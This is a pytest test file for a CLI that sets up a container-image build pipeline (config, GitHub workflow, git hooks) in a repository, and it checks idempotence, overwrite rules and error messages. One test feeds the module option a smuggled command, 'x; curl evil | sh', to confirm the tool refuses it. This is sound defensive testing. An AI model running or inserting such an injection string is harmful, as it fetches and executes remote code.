"""A repository without a configuration takes the pipeline over by one command, and nothing of its own is lost."""

import stat
from pathlib import Path

import pytest
import yaml

from .conftest import ROOT, Call, Repository

pytestmark = pytest.mark.timeout(900)

# One that listens and says so, one in two stages, one in a folder that is its own context.
FILES = {
    "hello.txt": "hello\n",
    "Dockerfile": """\
FROM python:3.13-slim
WORKDIR /srv
COPY hello.txt .
USER 10001:10001
EXPOSE 8000
HEALTHCHECK CMD ["python", "-c", "import urllib.request as r; r.urlopen('http://localhost:8000/hello.txt')"]
CMD ["python", "-m", "http.server", "8000"]
""",
    "Dockerfile.tool": """\
# syntax=docker/dockerfile:1
FROM python:3.13-slim AS build
RUN echo built > /built.txt
FROM python:3.13-slim
COPY --from=build /built.txt /built.txt
ENTRYPOINT ["cat", "/built.txt"]
""",
    "services/api/Dockerfile": """\
ARG BASE=python:3.13-slim
FROM ${BASE}
COPY data.txt /data.txt
""",
    "services/api/data.txt": "data\n",
}
MODULE = "github.com/acme/drydock@v1"
WRITTEN = {"deploy/images.yaml", ".github/workflows/images.yml", ".githooks/pre-push", ".githooks/install"}


@pytest.fixture
def adopter(repository: Repository) -> Path:
    for file in repository.path.iterdir():
        file.unlink()
    repository.write(FILES)
    return repository.path


def content(folder: Path) -> dict[str, tuple[bytes, int]]:
    files = (file for file in folder.rglob("*") if file.is_file())
    return {str(file.relative_to(folder)): (file.read_bytes(), stat.S_IMODE(file.stat().st_mode)) for file in files}


def test_three_dockerfiles_lead_to_a_passing_build_all_and_a_second_run_changes_nothing(
    adopter: Path, call: Call
) -> None:
    own = content(adopter)
    done = call("--auto-apply", "init", "--module", MODULE)
    assert done.code == 0, done.err
    after = content(adopter)
    assert after.keys() - own.keys() == WRITTEN
    assert {name: after[name] for name in own} == own

    images = yaml.safe_load((adopter / "deploy/images.yaml").read_text())["images"]
    assert [(image["name"], image["context"]) for image in images] == [
        ("app", "."),
        ("tool", "."),
        ("api", "services/api"),
    ]
    workflow = (adopter / ".github/workflows/images.yml").read_text()
    steps = [step for job in yaml.safe_load(workflow)["jobs"].values() for step in job["steps"]]
    called = [step["with"] for step in steps if "dagger-for-github" in step.get("uses", "")]
    assert called
    assert all(inputs["module"] == MODULE for inputs in called)
    assert MODULE in (adopter / ".githooks/pre-push").read_text()
    assert after[".githooks/pre-push"][1] == after[".githooks/install"][1] == 0o755

    again = call("--auto-apply", "init", "--module", MODULE)
    assert again.code == 0, again.err
    assert content(adopter) == after
    exported = call("init", "export", "--path", str(adopter))
    assert exported.code == 0, exported.err
    assert content(adopter) == after

    built = call("build-all")
    assert built.code == 0, built.err
    assert "6 variants: 6 ok, 0 failed, smoke 8/8" in built.out


def test_what_is_there_is_replaced_only_when_told(adopter: Path, call: Call) -> None:
    kept = adopter / "deploy/images.yaml"
    kept.parent.mkdir()
    kept.write_text("mine\n")
    done = call("--auto-apply", "init")
    assert done.code == 0, done.err
    assert kept.read_text() == "mine\n"
    assert (adopter / ".githooks/pre-push").exists()
    done = call("--auto-apply", "init", "--overwrite")
    assert done.code == 0, done.err
    assert kept.read_text().startswith("# yaml-language-server: $schema=https://")


def test_a_source_without_dockerfiles_is_told_what_was_looked_for(adopter: Path, call: Call) -> None:
    for file in adopter.rglob("Dockerfile*"):
        file.unlink()
    (adopter / "Dockerfile.old").symlink_to("/nowhere")
    (adopter / "Containerfile").write_text("FORM python:3.13-slim\n")
    done = call("--auto-apply", "init")
    assert done.code != 0
    for part in (
        "No Dockerfile was found",
        "Containerfile: it cannot be read: line 1: 'FORM'",
        "Dockerfile.old: the engine",
    ):
        assert part in done.err
    assert not (adopter / "deploy").exists()


def test_an_address_that_is_none_is_refused(adopter: Path, call: Call) -> None:
    done = call("--auto-apply", "init", "--module", "x; curl evil | sh")
    assert done.code != 0
    assert "is not an address such as" in done.err
    assert content(adopter).keys() == FILES.keys()


def test_this_repository_needs_nothing(call: Call, tmp_path: Path) -> None:
    done = call("init", "export", "--path", str(tmp_path / "changes"), source=ROOT)
    assert done.code == 0, done.err
    assert not content(tmp_path / "changes")


def test_what_a_workflow_releases_is_taken_over_and_told(adopter: Path, call: Call) -> None:
    workflow = """\
on:
  push: {tags: ["v*"]}
jobs:
  images:
    runs-on: ubuntu-24.04
    steps:
      - uses: docker/build-push-action@v6
        with:
          context: .
          push: true
          platforms: linux/amd64
          tags: ghcr.io/acme/hello:${{ github.ref_name }}
"""
    (adopter / ".github/workflows").mkdir(parents=True)
    (adopter / ".github/workflows/release.yml").write_text(workflow)
    done = call("--auto-apply", "init", "--module", MODULE)
    assert done.code == 0, done.err
    said = done.out + done.err
    for part in ("deploy/images.yaml: 1 image, as they are released today", "build-all --only hello"):
        assert part in said
    written = (adopter / "deploy/images.yaml").read_text()
    assert "# from .github/workflows/release.yml:7" in written
    (image,) = yaml.safe_load(written)["images"]
    assert (image["name"], image["platforms"]) == ("hello", ["linux/amd64"])
    events = yaml.safe_load((adopter / ".github/workflows/images.yml").read_text())[True]
    assert events["push"] == {"tags": ["v*"]}
